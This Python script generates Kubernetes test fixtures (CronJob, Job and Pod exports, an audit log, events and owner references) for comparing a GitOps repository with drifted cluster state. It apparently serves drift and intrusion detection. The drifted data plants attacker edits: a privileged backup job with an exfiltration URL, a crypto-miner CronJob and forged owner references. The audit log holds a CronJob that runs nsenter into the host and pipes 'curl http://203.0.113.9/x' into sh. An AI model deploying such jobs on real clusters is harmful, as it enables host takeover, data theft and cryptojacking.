"""Writes the recorded exports under live/ (run from this directory: python3 gen.py).

The objects are what `kubectl get cronjobs,jobs,pods -A -o yaml|json` prints for the
repository in repo/ after Argo CD applied it: server-set fields (status, managedFields, uid,
resourceVersion, creationTimestamp, generation), defaulted values, owner references, the
last-applied annotation. drifted.* adds what an attacker changed by hand.
"""
import copy, json, yaml

BACKUP_IMG = "registry.example.com/ops/backup:1.4.2@sha256:9b2a6f0c8e1d4a7b3c5e9f1a2b4c6d8e0f1a3b5c7d9e1f2a4b6c8d0e2f4a6b8c"
REPORT_IMG = "ghcr.io/acme/report:2.0.1@sha256:1c3e5a7b9d0f2e4c6a8b0d1f3e5c7a9b1d3f5e7c9a0b2d4f6e8a0c2e4b6d8f0a"
MIGRATE_IMG = "ghcr.io/acme/shop-migrations:7.3.0@sha256:5e7a9c1b3d5f7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5c7e9b1d3f5a7c"
WEB_IMG = "ghcr.io/acme/shop-web:3.8.1@sha256:7a9c1e3b5d7f9a1c3e5b7d9f1a3c5e7b9d1f3a5c7e9b1d3f5a7c9e1b3d5f7a9c"
HARD = {"allowPrivilegeEscalation": False, "readOnlyRootFilesystem": True,
        "capabilities": {"drop": ["ALL"]}}


def managed_fields(manager, op="Update", sub=None):
    m = {"apiVersion": "batch/v1", "fieldsType": "FieldsV1",
         "fieldsV1": {"f:metadata": {"f:labels": {".": {}}}, "f:spec": {".": {}}},
         "manager": manager, "operation": op, "time": "2026-11-28T09:14:03Z"}
    if sub:
        m["subresource"] = sub
    return m


def container(name, image, args=None, command=None, env=None, mounts=None, limits=None,
              pull="Always"):
    c = {"name": name, "image": image, "imagePullPolicy": pull,
         "resources": {"limits": limits or {"cpu": "500m", "memory": "256Mi"}},
         "securityContext": copy.deepcopy(HARD),
         "terminationMessagePath": "/dev/termination-log",
         "terminationMessagePolicy": "File"}
    if args:
        c["args"] = args
    if command:
        c["command"] = command
    if env:
        c["env"] = env
    if mounts:
        c["volumeMounts"] = mounts
    return c


def pod_spec(containers, uid, restart="OnFailure", sa=None, volumes=None):
    s = {"automountServiceAccountToken": False, "containers": containers,
         "dnsPolicy": "ClusterFirst", "restartPolicy": restart,
         "schedulerName": "default-scheduler",
         "securityContext": {"runAsNonRoot": True, "runAsUser": uid,
                             "seccompProfile": {"type": "RuntimeDefault"}},
         "terminationGracePeriodSeconds": 30}
    if sa:
        s["serviceAccount"] = sa
        s["serviceAccountName"] = sa
    if volumes:
        s["volumes"] = volumes
    return s


def meta(name, ns, uid, labels=None, owner=None, annotations=None, managers=()):
    m = {"name": name, "namespace": ns, "uid": uid, "resourceVersion": "48213977",
         "creationTimestamp": "2026-11-28T09:14:03Z", "generation": 3}
    if labels:
        m["labels"] = labels
    if annotations:
        m["annotations"] = annotations
    if owner:
        m["ownerReferences"] = [owner]
    if managers:
        m["managedFields"] = [managed_fields(*x) for x in managers]
    return m


def owner(kind, name, uid, api="batch/v1"):
    return {"apiVersion": api, "blockOwnerDeletion": True, "controller": True,
            "kind": kind, "name": name, "uid": uid}


def backup_pod_spec():
    return pod_spec(
        [container("backup", BACKUP_IMG, command=["/usr/local/bin/backup"],
                   args=["--target", "s3://acme-backups/db", "--compress"],
                   env=[{"name": "NODE_NAME", "valueFrom": {"fieldRef": {
                       "apiVersion": "v1", "fieldPath": "spec.nodeName"}}},
                       {"name": "PGHOST", "value": "db.ops.svc"}],
                   mounts=[{"mountPath": "/etc/backup", "name": "config", "readOnly": True},
                           {"mountPath": "/tmp", "name": "scratch"}],
                   limits={"cpu": "500m", "memory": "512Mi"})],
        10001, sa="backup",
        volumes=[{"configMap": {"defaultMode": 420, "name": "backup-config"}, "name": "config"},
                 {"emptyDir": {}, "name": "scratch"}])


def last_applied(obj):
    return json.dumps(obj, separators=(",", ":"), sort_keys=True) + "\n"


backup = {
    "apiVersion": "batch/v1", "kind": "CronJob",
    "metadata": meta("backup", "ops", "0b1c2d3e-4f50-4a61-8b72-93a4b5c6d7e8",
                     labels={"app.kubernetes.io/name": "backup",
                             "argocd.argoproj.io/instance": "ops"},
                     annotations={"kubectl.kubernetes.io/last-applied-configuration": last_applied(
                         {"apiVersion": "batch/v1", "kind": "CronJob",
                          "metadata": {"annotations": {}, "name": "backup", "namespace": "ops"},
                          "spec": {"schedule": "0 2 * * *"}})},
                     managers=[("argocd-controller", "Apply"),
                               ("kube-controller-manager", "Update", "status")]),
    "spec": {"concurrencyPolicy": "Forbid", "failedJobsHistoryLimit": 1,
             "jobTemplate": {"metadata": {"creationTimestamp": None},
                             "spec": {"activeDeadlineSeconds": 3600, "backoffLimit": 2,
                                      "template": {"metadata": {"creationTimestamp": None,
                                                                "labels": {"app.kubernetes.io/name": "backup"}},
                                                   "spec": backup_pod_spec()},
                                      "ttlSecondsAfterFinished": 86400}},
             "schedule": "0 2 * * *", "startingDeadlineSeconds": 600,
             "successfulJobsHistoryLimit": 3, "suspend": False, "timeZone": "Europe/Berlin"},
    "status": {"lastScheduleTime": "2026-12-04T01:00:00Z",
               "lastSuccessfulTime": "2026-12-04T01:03:41Z"},
}

report = {
    "apiVersion": "batch/v1", "kind": "CronJob",
    "metadata": meta("report", "default", "5e6f7a8b-9c0d-4e1f-a2b3-c4d5e6f7a8b9",
                     labels={"argocd.argoproj.io/instance": "reports"},
                     managers=[("argocd-controller", "Apply")]),
    "spec": {"concurrencyPolicy": "Allow", "failedJobsHistoryLimit": 1,
             "jobTemplate": {"metadata": {"creationTimestamp": None},
                             "spec": {"activeDeadlineSeconds": 1800,
                                      "template": {"metadata": {"creationTimestamp": None},
                                                   "spec": pod_spec([container(
                                                       "report", REPORT_IMG, args=["--since", "24h"],
                                                       limits={"cpu": "200m", "memory": "256Mi"})],
                                                       10002, restart="Never")},
                                      "ttlSecondsAfterFinished": 3600}},
             "schedule": "30 6 * * 1-5", "startingDeadlineSeconds": 300,
             "successfulJobsHistoryLimit": 3, "suspend": False},
    "status": {},
}


def job_of(cron, name, uid, ns):
    spec = copy.deepcopy(cron["spec"]["jobTemplate"]["spec"])
    labels = {"batch.kubernetes.io/controller-uid": uid, "batch.kubernetes.io/job-name": name,
              "controller-uid": uid, "job-name": name}
    spec["template"]["metadata"] = {"creationTimestamp": None, "labels": dict(
        spec["template"]["metadata"].get("labels", {}), **labels)}
    spec.update({"completionMode": "NonIndexed", "completions": 1, "manualSelector": False,
                 "parallelism": 1, "podReplacementPolicy": "TerminatingOrFailed",
                 "selector": {"matchLabels": {"batch.kubernetes.io/controller-uid": uid}},
                 "suspend": False})
    return {
        "apiVersion": "batch/v1", "kind": "Job",
        "metadata": meta(name, ns, uid, labels=labels,
                         owner=owner("CronJob", cron["metadata"]["name"], cron["metadata"]["uid"]),
                         annotations={"batch.kubernetes.io/cronjob-scheduled-timestamp": "2026-12-04T02:00:00+01:00"},
                         managers=[("kube-controller-manager", "Update")]),
        "spec": spec,
        "status": {"completionTime": "2026-12-04T01:03:41Z", "conditions": [
            {"lastProbeTime": "2026-12-04T01:03:41Z", "lastTransitionTime": "2026-12-04T01:03:41Z",
             "status": "True", "type": "Complete"}], "ready": 0, "startTime": "2026-12-04T01:00:00Z",
            "succeeded": 1, "terminating": 0, "uncountedTerminatedPods": {}},
    }


def pod_of(job, name, uid, node="worker-2"):
    spec = copy.deepcopy(job["spec"]["template"]["spec"])
    spec["nodeName"] = node
    spec["enableServiceLinks"] = True
    spec["preemptionPolicy"] = "PreemptLowerPriority"
    spec["priority"] = 0
    spec["tolerations"] = [
        {"effect": "NoExecute", "key": "node.kubernetes.io/not-ready", "operator": "Exists",
         "tolerationSeconds": 300},
        {"effect": "NoExecute", "key": "node.kubernetes.io/unreachable", "operator": "Exists",
         "tolerationSeconds": 300}]
    spec.setdefault("volumes", []).append({"name": "kube-api-access-7xk2p", "projected": {
        "defaultMode": 420, "sources": [
            {"serviceAccountToken": {"expirationSeconds": 3607, "path": "token"}},
            {"configMap": {"items": [{"key": "ca.crt", "path": "ca.crt"}], "name": "kube-root-ca.crt"}},
            {"downwardAPI": {"items": [{"fieldRef": {"apiVersion": "v1", "fieldPath": "metadata.namespace"},
                                        "path": "namespace"}]}}]}})
    labels = dict(job["spec"]["template"]["metadata"]["labels"])
    return {
        "apiVersion": "v1", "kind": "Pod",
        "metadata": meta(name, job["metadata"]["namespace"], uid, labels=labels,
                         owner=owner("Job", job["metadata"]["name"], job["metadata"]["uid"]),
                         managers=[("kube-controller-manager", "Update"),
                                   ("kubelet", "Update", "status")]),
        "spec": spec,
        "status": {"phase": "Succeeded", "hostIP": "10.0.3.12", "podIP": "10.244.2.31",
                   "qosClass": "Burstable", "startTime": "2026-12-04T01:00:00Z"},
    }


backup_job = job_of(backup, "backup-29412360", "a1b2c3d4-e5f6-4a7b-8c9d-0e1f2a3b4c5d", "ops")
backup_pod = pod_of(backup_job, "backup-29412360-x7k2p", "c3d4e5f6-a7b8-4c9d-8e0f-1a2b3c4d5e6f")

migrate = {
    "apiVersion": "batch/v1", "kind": "Job",
    "metadata": meta("db-migrate", "shop", "d4e5f6a7-b8c9-4d0e-9f1a-2b3c4d5e6f7a",
                     labels={"batch.kubernetes.io/controller-uid": "d4e5f6a7-b8c9-4d0e-9f1a-2b3c4d5e6f7a",
                             "batch.kubernetes.io/job-name": "db-migrate"},
                     managers=[("argocd-controller", "Apply"), ("kube-controller-manager", "Update", "status")]),
    "spec": {"activeDeadlineSeconds": 900, "backoffLimit": 1, "completionMode": "NonIndexed",
             "completions": 1, "manualSelector": False, "parallelism": 1,
             "podReplacementPolicy": "TerminatingOrFailed",
             "selector": {"matchLabels": {"batch.kubernetes.io/controller-uid": "d4e5f6a7-b8c9-4d0e-9f1a-2b3c4d5e6f7a"}},
             "suspend": False,
             "template": {"metadata": {"creationTimestamp": None, "labels": {
                 "batch.kubernetes.io/job-name": "db-migrate", "job-name": "db-migrate"}},
                 "spec": pod_spec([container("migrate", MIGRATE_IMG, command=["/migrate", "up"])],
                                  10003, restart="Never")},
             "ttlSecondsAfterFinished": 86400},
    "status": {"active": 1, "ready": 1, "startTime": "2026-12-04T04:10:00Z", "terminating": 0,
               "uncountedTerminatedPods": {}},
}
migrate_pod = pod_of(migrate, "db-migrate-9fzq4", "e5f6a7b8-c9d0-4e1f-8a2b-3c4d5e6f7a8b", "worker-1")

web_pod = {
    "apiVersion": "v1", "kind": "Pod",
    "metadata": meta("web-7d9f8c6b5-q2w9x", "shop", "f6a7b8c9-d0e1-4f2a-9b3c-4d5e6f7a8b9c",
                     labels={"app": "web", "pod-template-hash": "7d9f8c6b5"},
                     owner=owner("ReplicaSet", "web-7d9f8c6b5", "0a1b2c3d-4e5f-4a6b-7c8d-9e0f1a2b3c4d", "apps/v1"),
                     managers=[("kube-controller-manager", "Update")]),
    "spec": pod_spec([container("web", WEB_IMG, limits={"cpu": "1", "memory": "512Mi"})], 10004,
                     restart="Always"),
    "status": {"phase": "Running"},
}
web_pod["spec"]["nodeName"] = "worker-1"

in_sync = [backup, report, backup_job, backup_pod, migrate, migrate_pod, web_pod]

# --- drifted: edits by hand and objects git never saw -------------------------------------
d_backup = copy.deepcopy(backup)
d_spec = d_backup["spec"]["jobTemplate"]["spec"]["template"]["spec"]
d_backup["spec"]["schedule"] = "*/10 * * * *"
c = d_spec["containers"][0]
c["image"] = "registry.example.com/ops/backup:latest"
c["securityContext"]["privileged"] = True
c["env"].append({"name": "EXFIL_URL", "value": "https://203.0.113.9/upload"})
d_spec["hostNetwork"] = True
d_backup["metadata"]["managedFields"].append(managed_fields("kubectl-edit"))

MINER_IMG = "203.0.113.9:5000/node-metrics:1.0@sha256:0f1e2d3c4b5a69788796a5b4c3d2e1f00f1e2d3c4b5a69788796a5b4c3d2e1f0"
miner = {
    "apiVersion": "batch/v1", "kind": "CronJob",
    "metadata": meta("node-metrics", "kube-system", "9a8b7c6d-5e4f-4a3b-2c1d-0e9f8a7b6c5d",
                     managers=[("kubectl-create", "Update")]),
    "spec": {"concurrencyPolicy": "Allow", "failedJobsHistoryLimit": 1,
             "jobTemplate": {"metadata": {"creationTimestamp": None},
                             "spec": {"template": {"metadata": {"creationTimestamp": None},
                                                   "spec": pod_spec([container(
                                                       "metrics", MINER_IMG, args=["--donate-level=0"])],
                                                       10005, restart="OnFailure")}}},
             "schedule": "*/5 * * * *", "successfulJobsHistoryLimit": 3, "suspend": False},
    "status": {"lastScheduleTime": "2026-12-04T04:20:00Z"},
}
miner["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["securityContext"] = {"privileged": True}
miner_job = job_of(miner, "node-metrics-29412380", "1b2c3d4e-5f6a-4b7c-8d9e-0f1a2b3c4d5e", "kube-system")
miner_pod = pod_of(miner_job, "node-metrics-29412380-h8s2d", "2c3d4e5f-6a7b-4c8d-9e0f-1a2b3c4d5e6f")

debug = {
    "apiVersion": "v1", "kind": "Pod",
    "metadata": meta("debug-shell", "default", "3d4e5f6a-7b8c-4d9e-8f0a-1b2c3d4e5f6a",
                     managers=[("kubectl-run", "Update")]),
    "spec": pod_spec([container("debug-shell", "docker.io/library/alpine:3.20@sha256:beefed5d6c7b8a9f0e1d2c3b4a5f6e7d8c9b0a1f2e3d4c5b6a7f8e9d0c1b2a3f",
                                command=["sleep", "infinity"])], 10006, restart="Always"),
    "status": {"phase": "Running"},
}
orphan_job = job_of(report, "cleanup-manual", "4e5f6a7b-8c9d-4e0f-9a1b-2c3d4e5f6a7b", "ops")
orphan_job["metadata"]["ownerReferences"] = [owner("CronJob", "cleanup", "5f6a7b8c-9d0e-4f1a-8b2c-3d4e5f6a7b8c")]

drifted = [d_backup, report, backup_job, backup_pod, migrate, migrate_pod, web_pod,
           miner, miner_job, miner_pod, debug, orphan_job]


def listing(items):
    return {"apiVersion": "v1", "items": items, "kind": "List",
            "metadata": {"resourceVersion": ""}}


for name, items in [("in-sync", in_sync), ("drifted", drifted)]:
    with open(f"live/{name}.yaml", "w") as f:
        yaml.safe_dump(listing(items), f, sort_keys=True, default_flow_style=False, width=1000)
    with open(f"live/{name}.json", "w") as f:
        json.dump(listing(items), f, indent=4, sort_keys=True)
        f.write("\n")

# --- audit log ----------------------------------------------------------------------------
def event(audit_id, stage, verb, user, resource, ns, name=None, ips=("10.0.0.15",), code=200,
          agent="argocd-controller/v2.13.1", level="Metadata", request=None, response=None,
          sub=None, groups=("system:serviceaccounts",), ts="2026-12-04T03:12:45.118274Z",
          impersonate=None):
    ref = {"resource": resource, "namespace": ns, "apiGroup": "batch", "apiVersion": "v1"}
    if name:
        ref["name"] = name
    if sub:
        ref["subresource"] = sub
    uri = f"/apis/batch/v1/namespaces/{ns}/{resource}" + (f"/{name}" if name and verb != "create" else "")
    e = {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": level, "auditID": audit_id,
         "stage": stage, "requestURI": uri, "verb": verb,
         "user": {"username": user, "groups": list(groups)}, "sourceIPs": list(ips),
         "userAgent": agent, "objectRef": ref,
         "requestReceivedTimestamp": ts, "stageTimestamp": ts}
    if impersonate:
        e["impersonatedUser"] = {"username": impersonate}
    if stage != "RequestReceived":
        e["responseStatus"] = {"metadata": {}, "code": code}
    if request is not None:
        e["requestObject"] = request
    if response is not None:
        e["responseObject"] = response
    return e


warmup = {"apiVersion": "batch/v1", "kind": "CronJob",
          "metadata": {"name": "cache-warmup", "namespace": "payments"},
          "spec": {"schedule": "*/15 * * * *", "jobTemplate": {"spec": {"template": {"spec": {
              "restartPolicy": "OnFailure", "hostPID": True,
              "containers": [{"name": "warmup", "image": "alpine:3.20",
                              "command": ["/bin/sh", "-c", "nsenter -t 1 -m -u -i -n -p -- sh -c 'curl -s http://203.0.113.9/x | sh'"],
                              "securityContext": {"privileged": True}}]}}}}}}
lines = [
    event("5c1e9a7e-0d2b-4f7c-9b1e-3f2d6c8a0b11", "ResponseComplete", "patch",
          "system:serviceaccount:argocd:argocd-application-controller", "cronjobs", "ops", "backup"),
    event("8f3b2a61-7c4d-4e0a-b5f6-1d2e3c4b5a69", "ResponseComplete", "patch",
          "system:serviceaccount:flux-system:kustomize-controller", "jobs", "shop", "db-migrate",
          agent="kustomize-controller/v1.4.0", ts="2026-12-04T03:13:02.551903Z"),
    event("2d4f6a8c-1e3b-4d5f-8a7c-9e1b3d5f7a9c", "ResponseComplete", "create",
          "system:serviceaccount:kube-system:cronjob-controller", "jobs", "ops", "backup-29412360",
          agent="kube-controller-manager/v1.31.4 (linux/amd64) kubernetes/a78aa47/system:serviceaccount:kube-system:cronjob-controller",
          ts="2026-12-04T01:00:00.004117Z"),
    event("e7a1c3b5-9d2f-4a6e-8c0b-2f4d6e8a0c1e", "RequestReceived", "create", "alice@example.com",
          "cronjobs", "payments", ips=("203.0.113.7",), agent="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46",
          level="RequestResponse", request=warmup, groups=("system:authenticated", "oidc:payments-devs")),
    event("e7a1c3b5-9d2f-4a6e-8c0b-2f4d6e8a0c1e", "ResponseComplete", "create", "alice@example.com",
          "cronjobs", "payments", "cache-warmup", ips=("203.0.113.7",), code=201,
          agent="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46", level="RequestResponse",
          request=warmup, groups=("system:authenticated", "oidc:payments-devs"),
          ts="2026-12-04T03:21:09.770031Z"),
    None,  # malformed
    event("0a9b8c7d-6e5f-4a3b-9c1d-2e3f4a5b6c7d", "ResponseComplete", "patch", "bob@example.com",
          "cronjobs", "ops", "backup", ips=("198.51.100.23",), code=403,
          agent="kubectl/v1.31.2 (linux/amd64) kubernetes/5864a46"),
    event("1f2e3d4c-5b6a-4978-8d6c-5b4a3f2e1d0c", "ResponseComplete", "delete",
          "system:serviceaccount:ci:deployer", "jobs", "shop", "db-migrate", ips=("10.0.5.20",),
          agent="Go-http-client/2.0", ts="2026-12-04T03:30:12.004551Z"),
    event("3c4d5e6f-7a8b-4c9d-0e1f-2a3b4c5d6e7f", "ResponseComplete", "update",
          "system:serviceaccount:kube-system:job-controller", "jobs", "ops", "backup-29412360",
          sub="status", agent="kube-controller-manager/v1.31.4"),
    {"kind": "Event", "apiVersion": "audit.k8s.io/v1", "level": "Metadata",
     "auditID": "4d5e6f7a-8b9c-4d0e-1f2a-3b4c5d6e7f8a", "stage": "ResponseComplete",
     "requestURI": "/api/v1/namespaces/ops/pods?limit=500", "verb": "list",
     "user": {"username": "alice@example.com"}, "sourceIPs": ["203.0.113.7"],
     "objectRef": {"resource": "pods", "namespace": "ops", "apiVersion": "v1"},
     "responseStatus": {"metadata": {}, "code": 200},
     "requestReceivedTimestamp": "2026-12-04T03:20:01.000000Z",
     "stageTimestamp": "2026-12-04T03:20:01.010000Z"},
    event("6f7a8b9c-0d1e-4f2a-3b4c-5d6e7f8a9b0c", "ResponseComplete", "patch", "mallory@example.com",
          "cronjobs", "ops", "backup", ips=("198.51.100.66",), agent="kubectl/v1.31.2",
          impersonate="system:serviceaccount:argocd:argocd-application-controller",
          ts="2026-12-04T03:40:00.000000Z"),
]
with open("audit/audit.jsonl", "w") as f:
    for l in lines:
        if l is None:
            f.write('{"kind":"Event","apiVersion":"audit.k8s.io/v1","level":"Metadata","auditID":"trunc\n')
        else:
            f.write(json.dumps(l, separators=(",", ":")) + "\n")

# --- events -------------------------------------------------------------------------------
def k8s_event(name, ns, kind, obj, reason, message, ts, count=1, component="cronjob-controller"):
    return {"apiVersion": "v1", "kind": "Event", "count": count, "firstTimestamp": ts,
            "lastTimestamp": ts, "involvedObject": {"apiVersion": "batch/v1", "kind": kind,
                                                    "name": obj, "namespace": ns,
                                                    "resourceVersion": "48213001",
                                                    "uid": "7b8c9d0e-1f2a-4b3c-4d5e-6f7a8b9c0d1e"},
            "message": message, "metadata": {"creationTimestamp": ts, "name": name, "namespace": ns,
                                             "resourceVersion": "48213990",
                                             "uid": "8c9d0e1f-2a3b-4c4d-5e6f-7a8b9c0d1e2f"},
            "reason": reason, "reportingComponent": component, "reportingInstance": "",
            "source": {"component": component}, "type": "Normal"}


evs = [
    k8s_event("backup.187e1c2a9d3b0f11", "ops", "CronJob", "backup", "SuccessfulCreate",
              "Created job backup-29412360", "2026-12-04T01:00:00Z"),
    k8s_event("backup-29412360.187e1c2a9f5d2a03", "ops", "Job", "backup-29412360", "Completed",
              "Job completed", "2026-12-04T01:03:41Z", component="job-controller"),
    k8s_event("node-metrics.187e1d5b0a1c2e34", "kube-system", "CronJob", "node-metrics",
              "SuccessfulCreate", "Created job node-metrics-29412375", "2026-12-04T04:15:00Z"),
    k8s_event("node-metrics.187e1d6c1b2d3f45", "kube-system", "CronJob", "node-metrics",
              "SuccessfulCreate", "Created job node-metrics-29412380", "2026-12-04T04:20:00Z"),
    k8s_event("one-off-5kq8w.187e1b0d2c3e4f56", "default", "Job", "one-off-5kq8w", "Completed",
              "Job completed", "2026-12-04T00:41:17Z", component="job-controller"),
    k8s_event("web-7d9f8c6b5-q2w9x.187e1a9e3d4f5a67", "shop", "Pod", "web-7d9f8c6b5-q2w9x",
              "Pulled", "Container image already present on machine", "2026-12-04T00:12:00Z",
              component="kubelet"),
]
with open("events/events.json", "w") as f:
    json.dump(listing(evs), f, indent=4, sort_keys=True)
    f.write("\n")

# --- owners: ownerReferences are checked, not trusted --------------------------------------
repo_backup = yaml.safe_load(open("repo/cronjobs/backup.yaml"))
repo_backup["metadata"]["uid"] = "0b1c2d3e-4f50-4a61-8b72-93a4b5c6d7e8"
forged = job_of(backup, "backup-29412999", "6a7b8c9d-0e1f-4a2b-8c3d-4e5f6a7b8c9d", "ops")
forged["metadata"]["ownerReferences"][0]["uid"] = "ffffffff-0000-4000-8000-000000000000"
edited = job_of(backup, "backup-manual", "7b8c9d0e-1f2a-4b3c-9d4e-5f6a7b8c9d0e", "ops")
edited["metadata"]["annotations"] = {"cronjob.kubernetes.io/instantiate": "manual"}
edited["spec"]["template"]["spec"]["containers"][0]["image"] = "registry.example.com/ops/backup:evil"
op_made = copy.deepcopy(report)
op_made["metadata"].update(name="op-made", namespace="ops", uid="8c9d0e1f-2a3b-4c4d-8e5f-6a7b8c9d0e1f")
op_made["metadata"]["ownerReferences"] = [owner("Backup", "nightly", "9d0e1f2a-3b4c-4d5e-8f6a-7b8c9d0e1f2a", "example.com/v1")]
op_managed = copy.deepcopy(op_made)
op_managed["metadata"].update(name="nightly-db-backup", uid="ad0e1f2a-3b4c-4d5e-8f6a-7b8c9d0e1f2b")
op_managed["metadata"]["ownerReferences"] = [owner("Backup", "nightly-db", "be1f2a3b-4c5d-4e6f-8a7b-8c9d0e1f2a3c", "example.com/v1")]
with open("live/owners.yaml", "w") as f:
    yaml.safe_dump(listing([repo_backup, forged, edited, op_made, op_managed]), f, sort_keys=True,
                   default_flow_style=False, width=1000)
